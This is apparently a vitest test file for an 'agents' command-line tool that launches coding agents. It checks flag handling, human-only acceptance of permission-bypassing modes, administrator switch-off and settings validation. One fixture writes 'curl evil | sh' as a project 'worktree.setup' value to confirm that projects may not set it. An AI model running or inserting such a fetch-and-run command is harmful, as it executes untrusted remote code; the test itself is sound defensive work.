import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { openFleet } from '../helpers/fleet.ts';
import { agents } from '../helpers/program.ts';
import type { ScratchHome } from '../helpers/scratch-home.ts';
import { openTerminal } from '../helpers/terminal.ts';

it('gives the words for model, effort, permissions and files to the agent, and refuses what it has no equal for', async () => {
  const { home, agents: run } = openFleet();
  const files = [
    '--settings',
    '{"env":{}}',
    '--add-dir',
    home.root,
    '--add-dir',
    home.project,
    '--plugin-dir',
    home.root,
  ];
  const mcp = [
    '--mcp-config',
    join(home.project, 'README.md'),
    '--strict-mcp-config',
    '--fallback-model',
    'haiku',
  ];
  const model = ['--model', 'opus', '--effort', 'high', '--permission-mode', 'plan', '--agent', 'claude'];
  const started = await run('run', 'scn-hello', '--name', 'all', '--json', ...model, ...files, ...mcp);
  const { id } = JSON.parse(started.stdout);
  const spec = JSON.parse(readFileSync(join(home.agentsHome, 'jobs', id, 'spec.json'), 'utf8'));
  const kept = [
    '--model',
    'opus',
    '--effort',
    'high',
    '--permission-mode',
    'plan',
    '--add-dir',
    home.root,
    '--add-dir',
  ];
  expect(spec.flags.join(' ')).toContain(kept.join(' '));
  for (const word of ['--plugin-dir', '--mcp-config', '--strict-mcp-config', '--fallback-model'])
    expect(spec.flags).toContain(word);
  writeFileSync(join(home.root, 'bin/codex'), '#!/bin/sh\nsleep 60\n', { mode: 0o755 });
  const refused = await run('run', 'x', '--agent', 'codex', '--fallback-model', 'haiku');
  expect(refused).toMatchObject({ code: 1, stdout: '' });
  expect(refused.stderr).toContain('Codex has no equal for --fallback-model haiku. Nothing was started.');
});

it('refuses modes that do not ask until they are accepted in a terminal, here or in Claude Code', async () => {
  const fleet = openFleet();
  const { home } = fleet;
  const risky = ['run', 'scn-hello', '--name', 'bold', '--dangerously-skip-permissions'];
  const refused = await fleet.agents(...risky);
  expect(refused).toMatchObject({ code: 1, stdout: '' });
  expect(refused.stderr).toMatch(
    /without ever asking.*agents accept bypassPermissions\. Nothing was started/s,
  );
  expect((await fleet.agents('run', 'scn-hello', '--', '--permission-mode=auto')).code).toBe(1);
  expect((await fleet.agents('accept', 'bypassPermissions')).stderr).toContain('Only a person can accept');
  const terminal = await openTerminal({ env: home.env, cwd: home.project });
  await terminal.run('agents accept bypassPermissions');
  await terminal.waitFor('Type "yes"');
  await terminal.run('no');
  await terminal.waitFor('was not accepted');
  await terminal.run('agents accept bypassPermissions');
  await terminal.waitFor(/of yours:$/m);
  await terminal.run('yes');
  await terminal.waitFor('accepted · bypassPermissions');
  expect((await fleet.agents(...risky)).code).toBe(0);
  writeFileSync(join(home.claudeConfig, 'settings.json'), '{"skipAutoPermissionPrompt": true}');
  expect((await fleet.agents('run', 'scn-hello', '--permission-mode', 'auto')).code).toBe(0);
});

it('is switched off by a setting, a variable or an administrator, says by whom, and strands nothing', async () => {
  const fleet = openFleet();
  const { home } = fleet;
  await fleet.job('running', 'echo here; sleep 60');
  await fleet.waitFor('running', { summary: 'here' });
  const managed = join(home.root, 'managed.json');
  writeFileSync(managed, '{"disableAgentView": true}');
  const off = { AGENTS_MANAGED_SETTINGS: managed, AGENTS_DISABLE: '0' };
  const terminal = await openTerminal({ env: { ...home.env, ...off }, cwd: home.project, columns: 200 });
  await terminal.run('agents; echo "code $?"');
  await terminal.waitFor(`switched off by your administrator ("disableAgentView" in ${managed})`);
  await terminal.waitFor('code 1');
  const byVariable = await agents(home, ['run', 'scn-hello'], { env: { AGENTS_DISABLE: '1' } });
  expect(byVariable.code).toBe(1);
  expect(byVariable.stderr).toContain('by the variable AGENTS_DISABLE');
  // What has ended would be started again.
  await fleet.start('ended', 'scn-hello');
  await fleet.waitFor('ended', { state: 'completed' });
  await fleet.agents('stop', 'ended');
  settingsFile(home, '{"disableAgentView": true}');
  for (const words of [
    ['send', 'ended', 'more'],
    ['respawn', 'ended'],
  ])
    expect(await fleet.agents(...words)).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('switched off'),
    });
  await fleet.waitFor('ended', { state: 'stopped' });
  await fleet.agents('rm', 'ended');
  expect((await fleet.agents('doctor')).stdout).toMatch(/^note +settings +agents is switched off by/m);
  expect((await fleet.agents('run', 'scn-hello')).stderr).toContain(
    `in ${home.root}/config/agents/settings.json`,
  );
  expect((await fleet.agents('logs', 'running')).stdout).toBe('here\n');
  expect((await fleet.agents('stop', 'running')).code).toBe(0);
  expect((await fleet.agents('rm', 'running')).code).toBe(0);
  expect(await fleet.list()).toEqual([]);
});

it('prints each setting with where it comes from, and each mistake with its line', async () => {
  const fleet = openFleet();
  const { home } = fleet;
  settingsFile(
    home,
    '{\n  "$schema": "x",\n  "tehme": "dark",\n  "mouse": "no",\n  "ascii": true,\n  "agent": "cluade"\n}\n',
  );
  mkdirSync(join(home.project, '.agents'), { recursive: true });
  const project = join(home.project, '.agents/settings.json');
  writeFileSync(project, '{\n  "agent": "codex",\n  "worktree.setup": "curl evil | sh"\n}\n');
  const user = join(home.root, 'config/agents/settings.json');
  const { code, stdout, stderr } = await agents(home, ['settings'], { env: { AGENTS_COLOURS: '16' } });
  expect(code).toBe(1);
  expect(stdout).toMatch(new RegExp(`^agent +"codex" +project, ${project}$`, 'm'));
  expect(stdout).toMatch(/^theme +"auto" +default$/m);
  expect(stdout).toMatch(/^colours +"16" +environment, AGENTS_COLOURS$/m);
  expect(stdout).toMatch(new RegExp(`^ascii +true +user, ${user}$`, 'm'));
  expect(stderr).toContain(`${user}, line 3: there is no setting "tehme". Did you mean "theme"?`);
  expect(stderr).toContain(
    `${user}, line 6: "agent" names "cluade", which is no agent. Did you mean "claude"?`,
  );
  expect(stderr).toContain(`${user}, line 4: "mouse" must be true or false. It does not count.`);
  expect(stderr).toContain(`${project}, line 3: a project may not set "worktree.setup".`);
  expect(stdout).toMatch(/^worktree\.setup +"" +default$/m);
  expect((await fleet.agents('settings', 'set', 'mouse', 'false')).code).toBe(0);
  for (const key of ['ascii', 'agent']) expect((await fleet.agents('settings', 'unset', key)).code).toBe(0);
  expect(readFileSync(user, 'utf8')).toBe('{\n  "$schema": "x",\n  "tehme": "dark",\n  "mouse": false\n}\n');
  expect(await fleet.agents('settings', 'set', 'mouse', 'maybe')).toMatchObject({ code: 2, stdout: '' });
  const json = JSON.parse((await fleet.agents('settings', '--json')).stdout);
  expect(json.settings).toContainEqual({ key: 'mouse', value: false, origin: 'user', from: user });
});

it('an open view follows the settings, and says what counts only in the next one', async () => {
  const fleet = openFleet();
  await fleet.job('running', 'sleep 60');
  const view = await fleet.view();
  await view.waitFor(/^─{120}$/m);
  await fleet.agents('settings', 'set', 'ascii', 'true');
  await view.waitFor(/^-{120}\n[\s\S]*Settings changed: ascii\.$/m);
  settingsFile(fleet.home, '{"agent": "codex",\n"adopt": false, "colours": "none"}');
  await view.waitFor(/Settings changed: agent, colours, ascii\. adopt will count in the next view/);
  await view.waitFor(/^ agents {2}new sessions: Codex/m);
  await view.waitFor(/^─{120}$/m);
  expect(await view.screenAnsi()).not.toMatch(/\u001b\[(?:3[1-7]|38;)/);
  settingsFile(fleet.home, '{"agent": "codex",\n"adopt": 3, "disableAgentView": true}');
  await view.waitFor(/line 2: "adopt" must be true or false/);
  await view.run('! true');
  await view.waitFor(/agents is switched off by "disableAgentView" in/);
  settingsFile(fleet.home, '{}');
  await view.waitFor(/^ agents {2}new sessions: Claude Code/m);
  await view.waitGone(/must be true or false/);
});

function settingsFile(home: ScratchHome, text: string): void {
  mkdirSync(join(home.root, 'config/agents'), { recursive: true });
  writeFileSync(join(home.root, 'config/agents/settings.json'), text);
}
